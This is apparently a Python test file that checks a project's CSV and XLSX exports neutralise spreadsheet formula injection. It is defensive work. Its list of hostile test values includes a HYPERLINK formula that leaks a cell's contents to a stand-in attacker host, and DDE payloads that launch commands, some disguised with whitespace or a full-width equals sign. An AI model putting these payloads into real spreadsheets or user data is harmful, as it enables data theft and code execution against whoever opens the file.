"""Exports: a cell that would start a formula is written as text, in CSV and XLSX alike, and no
code of the project writes a spreadsheet any other way."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tracker.exports import neutralise, write_csv, write_xlsx

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # a full-width equals sign, which some spreadsheet programs read as "="
]
HARMLESS = ["Ratify the Optional Protocol.", "A/HRC/58/14", "127.1", "", "e-mail"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_neutralised(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [*HARMLESS, 12, -3.5, None, True])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value


def test_csv_exports_write_formulas_as_text():
    out = io.StringIO()
    write_csv(out, ["=header", "text"], [[value, "ok"] for value in HOSTILE])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["'=header", "text"]
    assert all(row[0].startswith("'") for row in rows[1:])


def test_xlsx_exports_write_formulas_as_text():
    out = io.BytesIO()
    write_xlsx(out, ["text"], [[value] for value in HOSTILE] + [[7]])
    out.seek(0)
    sheet = load_workbook(out).active
    values = [row[0].value for row in sheet.iter_rows(min_row=2)]
    # XML keeps no carriage return: the XLSX reads it back as a line feed, still neutralised.
    expected = ["'" + value.replace("\r", "\n") for value in HOSTILE]
    assert [v.replace("\r", "\n") for v in values[:-1]] == expected
    assert values[-1] == 7
    assert all(row[0].data_type != "f" for row in sheet.iter_rows())


WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|xlsxwriter")


def test_no_export_writes_a_spreadsheet_around_the_neutraliser():
    offenders = []
    for app in ("tracker", "recommendations", "plans", "reporting"):
        for path in (ROOT / app).rglob("*.py"):
            # The reference data's maintenance script writes the shipped countries.csv, not an
            # export of what people typed.
            if path.name in ("exports.py", "make_countries.py") or "migrations" in path.parts:
                continue
            if WRITERS.search(path.read_text()):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == [], "write exports with tracker.exports (formula injection)"
